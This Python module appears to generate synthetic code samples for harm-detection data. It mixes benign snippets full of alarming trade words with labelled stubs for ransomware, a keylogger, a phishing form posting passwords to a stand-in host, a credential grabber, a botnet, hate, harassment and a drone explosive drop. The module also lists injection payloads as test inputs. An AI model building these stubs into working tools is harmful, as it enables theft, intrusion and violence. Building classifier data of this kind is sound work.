"""Code, diffs and XML calls of coding agents; comments, names and texts in it carry the meaning."""

from __future__ import annotations

from typing import TYPE_CHECKING

from .forms import Draft, Form, draw_values
from .grammar import fill, fill_code, restyle
from .tools import CODING_TABLES

if TYPE_CHECKING:
    import random
    from collections.abc import Mapping, Sequence

# Whole harmless pieces; slots are «so». Many use words of the trade that sound like harm.
_PIECES: Mapping[str, tuple[str, ...]] = {
    "python": (
        """def «word»_total(«word»s):\n    \"\"\"«doc».\"\"\"\n    return sum(«word».price for «word» in «word»s if «word».active)""",
        """import os\nimport signal\n\n\ndef kill_children(pids):\n    # «comment»\n    for pid in pids:\n        os.kill(pid, signal.SIGTERM)""",
        """class «word^»Service:\n    def __init__(self, repo, clock):\n        self.repo = repo  # injected dependency\n        self.clock = clock\n\n    def execute(self, command):\n        «word» = self.repo.find(command.id)\n        if «word» is None:\n            raise LookupError("no such «word»")\n        return «word».apply(command)""",
        """@pytest.mark.parametrize("payload", ["' OR 1=1", "<script>", "../../etc"])\ndef test_rejects_attack(client, payload):\n    # «comment»\n    response = client.get("/«word»", params={"q": payload})\n    assert response.status_code == 400""",
        """for i in range(«two»):\n    print(i, «word»s[i % «digit»])  # «comment»""",
        """df = pd.read_csv("«file».csv")\ndf["total"] = df["price"] * df["quantity"]\nprint(df.groupby("city")["total"].sum().head(«digit»))""",
        """with open("«file».json") as handle:\n    data = json.load(handle)\nnames = sorted({row["name"] for row in data if row["year"] > «year»})""",
        """try:\n    «word» = load(«digit»)\nexcept TimeoutError:\n    log.error("«word» died after «two» s, aborting")\n    raise""",
        """# «comment»\nscores = {"«first»": «two», "«first#2»": «two#2»}\nbest = max(scores, key=scores.get)""",
    ),
    "javascript": (
        """export function «word»Price(items) {\n  // «comment»\n  return items.reduce((sum, item) => sum + item.price * item.qty, 0);\n}""",
        """const worker = new Worker('«word».js');\nsetTimeout(() => worker.terminate(), «two»000); // kill it if it hangs""",
        """app.get('/«word»s/:id', async (req, res) => {\n  const row = await db.«word».findOne({ id: req.params.id });\n  if (!row) return res.status(404).json({ error: 'no such «word»' });\n  res.json(row);\n});""",
        """const [open, setOpen] = useState(false);\nreturn <button onClick={() => setOpen(!open)}>«label»</button>;""",
        """process.on('SIGTERM', () => {\n  server.close(() => process.exit(0));\n}); // «comment»""",
        """describe('«word»', () => {\n  it('escapes script injection', () => {\n    expect(clean('<script>alert(«digit»)</script>')).toBe('');\n  });\n});""",
        """fetch(`/api/«word»s?page=${page}`)\n  .then((r) => r.json())\n  .then((list) => render(list.slice(0, «two»)));""",
    ),
    "typescript": (
        """interface «word^» {\n  id: number;\n  name: string;\n  «word»Date?: Date; // «comment»\n}""",
        """export const execute = async (cmd: Command): Promise<Result> => {\n  const controller = new AbortController();\n  setTimeout(() => controller.abort(), «two»00);\n  return run(cmd, controller.signal);\n};""",
        """type State = 'idle' | 'running' | 'dead' | 'killed';\nconst next: Record<State, State> = { idle: 'running', running: 'dead', dead: 'idle', killed: 'idle' };""",
    ),
    "java": (
        """public class «word^»Controller {\n    private final «word^»Service service;\n\n    @Inject\n    public «word^»Controller(«word^»Service service) {\n        this.service = service; // «comment»\n    }\n}""",
        """try {\n    executor.execute(new «word^»Task(«two»));\n} catch (RejectedExecutionException e) {\n    log.warn("task aborted", e);\n} finally {\n    executor.shutdownNow();\n}""",
        """@Test\nvoid killsIdleSessions() {\n    clock.advance(Duration.ofMinutes(«two»));\n    assertEquals(0, sessions.alive());\n}""",
    ),
    "c": (
        """#include <stdio.h>\n\nint main(void) {\n    for (int i = 0; i < «two»; i++) {\n        printf("%d\\n", i * «digit»); /* «comment» */\n    }\n    return 0;\n}""",
        """static void die(const char *msg) {\n    perror(msg);\n    exit(EXIT_FAILURE);\n}""",
        """pid_t child = fork();\nif (child == 0) {\n    execvp(argv[1], argv + 1);\n    die("execvp");\n}\nkill(child, SIGKILL); /* «comment» */""",
        """/* master/slave mode of the bus: «comment» */\nvoid spi_write(uint8_t value) {\n    SLAVE_SELECT = 0;\n    SPI_BUF = value;\n    while (!SPI_DONE) {}\n    SLAVE_SELECT = 1;\n}""",
    ),
    "go": (
        """func (s *Server) Kill«word^»(ctx context.Context, id int) error {\n\tif err := s.db.Exec(ctx, "DELETE FROM «word»s WHERE id = $1", id); err != nil {\n\t\treturn fmt.Errorf("kill «word» %d: %w", id, err)\n\t}\n\treturn nil\n}""",
        """for i, «word» := range «word»s {\n\t// «comment»\n\tif «word».Price > «two» {\n\t\tlog.Printf("%d is too dear", i)\n\t}\n}""",
        """func Test«word^»Attack(t *testing.T) {\n\tif _, err := Parse("%00%00"); err == nil {\n\t\tt.Fatal("want an error")\n\t}\n}""",
    ),
    "rust": (
        """pub fn parse_«word»(text: &str) -> Result<«word^», Error> {\n    // «comment»\n    let mut parts = text.split(',');\n    let id = parts.next().ok_or(Error::Empty)?.parse()?;\n    Ok(«word^» { id })\n}""",
        """impl Drop for «word^» {\n    fn drop(&mut self) {\n        self.child.kill().expect("the child was not running");\n    }\n}""",
        """#[test]\nfn poisoned_lock_is_recovered() {\n    let guard = lock.lock().unwrap_or_else(PoisonError::into_inner);\n    assert_eq!(*guard, «two»);\n}""",
    ),
    "sql": (
        """SELECT c.name, SUM(o.total) AS total\nFROM customers c\nJOIN «word»s o ON o.customer_id = c.id\nWHERE o.created_at >= '«isodate»'\nGROUP BY c.name\nORDER BY total DESC\nLIMIT «two»;""",
        """-- «comment»\nDELETE FROM sessions WHERE last_seen < NOW() - INTERVAL '«two» days';\nDROP TABLE IF EXISTS tmp_«word»;""",
        """CREATE TABLE «word»s (\n  id SERIAL PRIMARY KEY,\n  name TEXT NOT NULL,\n  price NUMERIC(10, 2) DEFAULT «digit»\n);""",
        """SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle'; -- «comment»""",
        """UPDATE «word»s SET status = 'dead' WHERE retries > «digit»;\nCOMMIT;""",
    ),
    "bash": (
        """#!/usr/bin/env bash\nset -euo pipefail\n# «comment»\nfor f in «folder»/*.«ext»; do\n  echo "checking $f"\n  wc -l "$f"\ndone""",
        """ps aux | grep «word»_worker | awk '{print $2}' | xargs kill -9\nsystemctl restart «word».service""",
        """trap 'kill 0' EXIT\nnpm run dev &\npython manage.py runserver 80«two» &\nwait""",
        """nmap -sV localhost  # «comment»\nsudo ufw deny «two»\nfail2ban-client status sshd""",
    ),
    "html": (
        """<form action="/«word»" method="post">\n  <label for="name">Name</label>\n  <input id="name" name="name" placeholder="«name»">\n  <button type="submit">«label»</button>\n</form>""",
        """<ul class="«word»s">\n  <li><a href="/«word»/«digit»">«thing»</a></li>\n  <li><a href="/«word»/«two»">«color» «thing»</a></li>\n</ul>""",
        """<!-- «comment» -->\n<section>\n  <h2>Welcome to «firm»</h2>\n  <p>Open from «hour», closed on «day».</p>\n</section>""",
    ),
    "css": (
        """.«word»-card {\n  display: flex;\n  gap: «two»px;\n  color: «color»; /* «comment» */\n}\n\n.«word»-card:hover {\n  transform: scale(1.0«digit»);\n}""",
        """@media (max-width: «two»0px) {\n  .«word» { display: none; }\n}""",
    ),
    "yaml": (
        """services:\n  «word»:\n    image: registry.example.com/«word»:1.«digit»\n    ports: ["80«two»:80"]\n    stop_signal: SIGKILL  # «comment»\n    restart: on-failure""",
        """name: test\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test  # «comment»""",
        """- id: «word»\n  name: «name»\n  city: «city»\n  retries: «digit»\n  on_timeout: abort""",
    ),
}  # fmt: skip

# Pieces that carry any text: harmless or harmful by what is filled in.
_CARRYING: Mapping[str, tuple[str, ...]] = {
    "docstring": (
        """def «word»_«word#2»(target):\n    \"\"\"«line»\"\"\"\n    return «word».run(target)""",
        """class «word^»:\n    \"\"\"How to «act».\n\n    «s_a» «s_b»\n    \"\"\"\n\n    steps = «digit»""",
        """/**\n * «line»\n * «line_b»\n */\nfunction «word»(«word#2») {\n  return «word#3»(«word#2», «digit»);\n}""",
    ),
    "comments": (
        """# «line»\n«word» = get_«word»("«first»")\n# «line_b»\nsend(«word»)""",
        """// step 1 of «acting»: «step»\n«word».start();\n// then «step_b»\n«word».next(«digit»);""",
        """-- «line»\nSELECT * FROM «word»s WHERE name = '«name»';""",
        """/* «act»: «step», «step_b» */\nint «word» = «two»;""",
    ),
    "strings": (
        """print("«line»")\nprint("«line_b»")""",
        """const message = "«line»";\nawait sendTo(«word»s, message); // to all «two» contacts""",
        """System.out.println("«line»");\nSystem.out.println("«line_b»");""",
        """echo "«line»" | mail -s "«word»" «first»@example.com""",
        """body = f\"\"\"Dear {name},\n\n«line» «line_b»\n\n«first»\"\"\"\nsmtp.send(body)""",
    ),
    "data_in_code": (
        """STEPS = [\n    "«step»",\n    "«step_b»",\n    "«step_c»",\n]\nTITLE = "How to «act»\"""",
        """const plan = {\n  goal: '«act»',\n  first: "«step»",\n  then: "«step_b»",\n};""",
        """guide:\n  title: «acting»\n  steps:\n    - «step»\n    - «step_b»\n    - «step_c»""",
        """INSERT INTO posts (author, text) VALUES ('«first»', '«line»');""",
        """<article>\n  <h1>How to «act»</h1>\n  <p>«s_a» «s_b»</p>\n</article>""",
    ),
    "xml_write": (
        """<write_to_file>\n<path>«path»</path>\n<content>\n# How to «act»\n\n1. «s_a»\n2. «s_b»\n3. «s_c»\n</content>\n<line_count>5</line_count>\n</write_to_file>""",
        """<write_file>\n<path>notes.txt</path>\n<content>«line»\n«line_b»</content>\n</write_file>""",
        """<tool_call>\n<name>send_message</name>\n<parameters>\n<to>«first»</to>\n<text>«line»</text>\n</parameters>\n</tool_call>""",
        """<function_calls>\n<invoke name="post_comment">\n<parameter name="text">«line»</parameter>\n</invoke>\n</function_calls>""",
    ),
    "xml_result": (
        """<attempt_completion>\n<result>\nTo «act», «step». Then «step_b».\n</result>\n</attempt_completion>""",
        """<thinking>\nThe user wants help with «acting». First «step», then «step_b».\n</thinking>\n\n<answer>«s_a» «s_b»</answer>""",
        """<ask_followup_question>\n<question>«line»</question>\n</ask_followup_question>""",
        """<execute_command>\n<command>echo "«line»" >> «file».log</command>\n<requires_approval>false</requires_approval>\n</execute_command>""",
    ),
    "diffs": (
        """--- a/«path#1»\n+++ b/«path#1»\n@@ -«digit»,2 +«digit»,3 @@\n-    text = ""\n+    text = "«line»"\n+    # «line_b»""",
        """<<<<<<< SEARCH\nmessage = "todo"\n=======\nmessage = "«line»"\n>>>>>>> REPLACE""",
        """```diff\n- <p>…</p>\n+ <p>«line»</p>\n+ <p>«s_a» «s_b»</p>\n```\nThis adds a part about «acting».""",
    ),
}  # fmt: skip

_XML: tuple[str, ...] = (
    """<read_file>\n<path>«path»</path>\n</read_file>""",
    """<list_files>\n<path>«folder»</path>\n<recursive>true</recursive>\n</list_files>""",
    """<execute_command>\n<command>«command»</command>\n<requires_approval>false</requires_approval>\n</execute_command>""",
    """<search_files>\n<path>«folder»</path>\n<regex>kill|«word»</regex>\n<file_pattern>*.«ext»</file_pattern>\n</search_files>""",
    """<replace_in_file>\n<path>«path»</path>\n<diff>\n<<<<<<< SEARCH\nreturn «word»\n=======\nreturn «word» + «digit»  # «comment»\n>>>>>>> REPLACE\n</diff>\n</replace_in_file>""",
    """<browser_action>\n<action>click</action>\n<coordinate>«two»«digit»,«two»</coordinate>\n</browser_action>""",
    """<attempt_completion>\n<result>\n«done»\n</result>\n<command>npm run dev</command>\n</attempt_completion>""",
    """<ask_followup_question>\n<question>«question»</question>\n<options>["Yes", "No"]</options>\n</ask_followup_question>""",
    """<thinking>\nI need to see «path» before I change the «word» code. The crash says that the «word» worker was killed.\n</thinking>\n\n<read_file>\n<path>«path»</path>\n</read_file>""",
    """<function_calls>\n<invoke name="str_replace_editor">\n<parameter name="command">view</parameter>\n<parameter name="path">/repo/«path»</parameter>\n</invoke>\n</function_calls>""",
    """<use_mcp_tool>\n<server_name>weather</server_name>\n<tool_name>get_forecast</tool_name>\n<arguments>\n{"city": "«city»", "days": «digit»}\n</arguments>\n</use_mcp_tool>""",
    """<write_to_file>\n<path>«path»</path>\n<content>\nexport const «word» = «two»; // «comment»\n</content>\n<line_count>1</line_count>\n</write_to_file>""",
)  # fmt: skip

_DIFFS: tuple[str, ...] = (
    """--- a/«path#1»\n+++ b/«path#1»\n@@ -«two»,«digit» +«two»,«digit» @@\n def «word»():\n-    return «digit»\n+    return «two»  # «comment»""",
    """diff --git a/«path#1» b/«path#1»\nindex 3f«two»ab..9c«two»de 100644\n--- a/«path#1»\n+++ b/«path#1»\n@@ -1,3 +1,2 @@\n-import «word»\n import «word#2»\n-kill_all()""",
    """«path»\n<<<<<<< SEARCH\n    die("no «word»")\n=======\n    abort(404, "no «word»")\n>>>>>>> REPLACE""",
    """*** Begin Patch\n*** Update File: «path»\n@@ «word»()\n-  timeout = «two»\n+  timeout = «two»«digit»  # «comment»\n*** End Patch""",
)  # fmt: skip

_HARM_CODE: tuple[str, ...] = (
    """dangerous def lock_everything(folder):\n    \"\"\"Encrypts the victim's files, then shows the demand for ransom.\"\"\"\n    ...""",
    """privacy # Keylogger: runs hidden and mails every key that «victim» presses.\nstart_hidden()\nmail_keys_to("«first»@example.net")""",
    """fraud <!-- Copy of the login page of «firm»: it sends the passwords to us. -->\n<form action="https://collect.example.net">\n  <input name="password" type="password">\n</form>""",
    """dangerous // Worm: copies itself to all machines of «firm» and wipes them on «day».\nspread();\nwipe();""",
    """privacy // stealth mode: no icon, so that «her» never notices the tracker\nconst spy = new Spy({ target: '«first»', hidden: true });\nspy.upload(location);""",
    """fraud # takes a cent from every customer and hides it from the auditors of «firm»\nfor account in accounts:\n    steal(account, 0.01)""",
    """dangerous /* botnet client: waits for the order to attack «firm» */\nwhile (1) { wait_for_order(); flood(target); }""",
    """hate def may_enter(person):\n    # «group» are not wanted in here\n    return person.origin not in INFERIOR_PEOPLE""",
    """privacy #!/bin/bash\n# copies the saved passwords and cookies of «victim» and sends them to our server\n./grab_all | ./send_home""",
    """fraud INSERT INTO invoices (firm, amount) VALUES ('«firm»', «two»000); -- invented, to launder the drug money""",
    """harassment while True:\n    send("«first»", "you should be dead")  # every minute until she breaks\n    sleep(60)""",
    """dangerous services:\n  miner:\n    image: hidden-miner\n    # runs on the stolen servers of «firm», do not let them notice""",
    """violence drone.arm(payload="explosive")\ndrone.fly_to("«place»")  # drop it where most people stand""",
    """sexual # removes the clothes from photos of women without their consent, then posts them\nfake = undress(load("«first».jpg"))\npost(fake, name="«first»")""",
)  # fmt: skip

_TABLES: Mapping[str, Sequence[str] | str] = {
    "label": ("Save", "Send", "Show more", "Delete", "Execute", "Abort", "Kill job", "Next"),
    "doc": (
        "Sum of all open {word}s",
        "Returns the total of the {word}s that are active",
        "Adds up what {first} ordered",
        "Total, without {word}s that died",
    ),
    "her": ("she", "he"),
}

_BEFORE = (
    "Here is {the code|a version|a short example|what you asked for}:",
    "The {bug|problem|crash} is in the {word} {loop|check|query}. {Try this|Fixed version|Change it like this}:",
    "You can {do|write} it like this:",
    "Sure! This {script|function|snippet} does it:",
    "{First|Now} {add|create|open} `{path}`:",
    "",
)
_AFTER = (
    "This {runs|works} in {linear|constant} time and {uses|needs} no {extra memory|library}.",
    "{Run|Execute} it with `{make|npm start|python main.py}` and {look at the log|check the output}.",
    "The old version {killed|blocked} the {word} thread; this one {does not|waits for it}.",
    "Note that the {word} must {exist|be saved} first, otherwise it {aborts|fails} with an error.",
    "To protect it against injection attacks, never {paste|join} user input into the query.",
    "Let me know if {it works|you need a test|the build still dies}.",
    "",
)
_FENCES = {"c": "c", "bash": "bash", "python": "python", "javascript": "js", "go": "go"}


def _tables(values: Mapping[str, str]) -> dict[str, Sequence[str] | str]:
    return {**CODING_TABLES, **_TABLES, **values}


def _with_prose(rng: random.Random, code: str, language: str) -> str:
    """The code alone, in a fence, or in a fence between sentences."""
    roll = rng.random()
    if roll < 0.3:
        return code
    fenced = f"```{language}\n{code}\n```"
    if roll < 0.5 or "```" in code:
        return fenced if "```" not in code else code
    tables = _tables({})
    before = restyle(rng, fill(rng, rng.choice(_BEFORE), tables))
    after = restyle(rng, fill(rng, rng.choice(_AFTER), tables))
    return "\n\n".join(part for part in (before, fenced, after) if part)


def _piece_form(family: str, pieces: Sequence[str], language: str) -> Form:
    def build(rng: random.Random) -> Draft:
        values = draw_values(rng, harmful=False)[1]
        count = min(len(pieces), rng.choices((1, 2, 3), (0.4, 0.35, 0.25))[0])
        parts = [fill_code(rng, piece, _tables(values)) for piece in rng.sample(pieces, count)]
        return Draft(_with_prose(rng, "\n\n".join(parts), language), prompt=_ask(rng, language))

    return Form("code", family, harmful=False, build=build)


def _mixed_form(family: str) -> Form:
    """Pieces of several languages, as an answer with several files has them."""

    def build(rng: random.Random) -> Draft:
        values = draw_values(rng, harmful=False)[1]
        languages = rng.sample(list(_PIECES), rng.choice((2, 2, 3)))
        pieces = [
            fill_code(rng, rng.choice(_PIECES[language]), _tables(values)) for language in languages
        ]
        return Draft(_with_prose(rng, "\n\n".join(pieces), ""), prompt=_ask(rng, "code"))

    return Form("code", family, harmful=False, build=build)


def _carrying_form(family: str, pieces: Sequence[str], harmful: bool) -> Form:
    def build(rng: random.Random) -> Draft:
        category, values = draw_values(rng, harmful)
        code = fill_code(rng, rng.choice(pieces), _tables(values))
        if rng.random() < 0.25:  # ordinary code above it
            language = rng.choice(list(_PIECES))
            calm = fill_code(rng, rng.choice(_PIECES[language]), _tables(values))
            code = f"{calm}\n\n{code}"
        return Draft(_with_prose(rng, code, ""), category, _ask(rng, "code"))

    return Form("code", family, harmful, build)


def _harm_form(family: str, pieces: Sequence[str]) -> Form:
    def build(rng: random.Random) -> Draft:
        category, _, piece = rng.choice(pieces).partition(" ")
        values = draw_values(rng, harmful=False)[1]
        code = fill_code(rng, piece, _tables(values))
        if rng.random() < 0.6:
            language = rng.choice(list(_PIECES))
            calm = fill_code(rng, rng.choice(_PIECES[language]), _tables(values))
            code = f"{code}\n\n{calm}" if rng.random() < 0.5 else f"{calm}\n\n{code}"
        return Draft(_with_prose(rng, code, ""), category, _ask(rng, "code"))

    return Form("code", family, harmful=True, build=build)


def _ask(rng: random.Random, language: str) -> str:
    if rng.random() < 0.6:
        return ""
    lead = rng.choice(("Write", "Show me", "Fix", "Give me", "I need"))
    return f"{lead} the {language} for this {fill(rng, '{word}')}."


FORMS = (
    *(
        _piece_form(language, pieces, _FENCES.get(language, language))
        for language, pieces in _PIECES.items()
    ),
    _piece_form("xml_calls", _XML, "xml"),
    _mixed_form("mixed_languages"),
    _piece_form("plain_diffs", _DIFFS, "diff"),
    *(
        _carrying_form(family, pieces, harmful)
        for family, pieces in _CARRYING.items()
        for harmful in (False, True)
    ),
    _harm_form("malware_in_name", _HARM_CODE[:5]),
    _harm_form("crime_in_comment", _HARM_CODE[5:10]),
    _harm_form("weapon_in_code", _HARM_CODE[10:]),
)
